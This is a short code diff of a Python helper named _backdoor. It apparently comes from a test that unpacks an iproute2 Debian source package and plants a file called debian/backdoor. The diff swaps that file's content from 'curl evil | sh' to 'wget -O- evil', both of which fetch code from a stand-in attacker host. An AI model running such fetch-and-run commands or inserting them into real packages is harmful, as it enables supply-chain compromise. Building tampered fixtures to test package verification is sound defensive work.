@@ -328,7 +328,7 @@ def _backdoor(folder: Path) -> None:
     old = folder / "patched" / f"iproute2_{OURS}.dsc"
     work = folder.parent / "backdoor"
     subprocess.run(["dpkg-source", "--no-check", "-x", old, work], check=True, capture_output=True)
-    (work / "debian/backdoor").write_text("curl evil | sh\n")
+    (work / "debian/backdoor").write_text("wget -O- evil\n")
     for path in (folder / "patched").glob("*.orig.tar.*"):
         shutil.copy(path, work.parent)
     subprocess.run(
